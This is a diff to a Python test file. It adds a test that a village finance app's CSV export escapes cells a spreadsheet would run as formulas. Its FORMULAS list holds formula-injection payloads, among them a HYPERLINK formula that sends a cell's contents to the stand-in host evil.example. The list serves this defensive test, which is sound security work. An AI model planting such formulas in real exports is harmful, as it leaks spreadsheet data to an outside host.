@@ -34,6 +34,8 @@ def _upload(client, name, content):
 def test_csv_export_has_a_bom_and_reads_back_as_the_same_entries(
     client, staff, youyi, books, today
 ):
+    """Plain cells read back unchanged. (A cell a spreadsheet would run as a formula reads back
+    with the apostrophe the export puts in front of it: see the test below.)"""
     entry(
         youyi,
         date(2026, 1, 3),
@@ -83,6 +85,33 @@ def test_csv_export_has_a_bom_and_reads_back_as_the_same_entries(
     assert client.post(response.url).status_code == 302
     assert _rows(other) == _rows(youyi)
     assert FinanceEntry.objects.filter(village=other, import_batch=batch).count() == 3
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"发票")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
+    client, staff, youyi, books, today
+):
+    for i, text in enumerate(FORMULAS):
+        entry(youyi, date(2026, 1, 3 + i), "10.00", counterparty="水利队", note=text)
+    entry(youyi, date(2026, 1, 20), "10.00", counterparty="谢启富", note="-", voucher_no="-1.50")
+    publish(youyi, date(2026, 1, 1), checker=staff.checker, publisher=staff.secretary)
+    raw = client.get("/v/youyi/open/finance/2026-01.csv").content
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1:]
+    notes = [row[6] for row in rows]
+    # Each formula reads back with a leading apostrophe: Excel shows it as text, runs nothing.
+    assert notes[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
+    # Numbers stay numbers; so does a lone minus sign, which is no formula.
+    assert rows[-1][3] == "10.00" and rows[-1][5] == "-1.50"
+    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
 
 
 def _sheet(*rows, header="日期,收支,类别,金额,对方,凭证号,备注"):
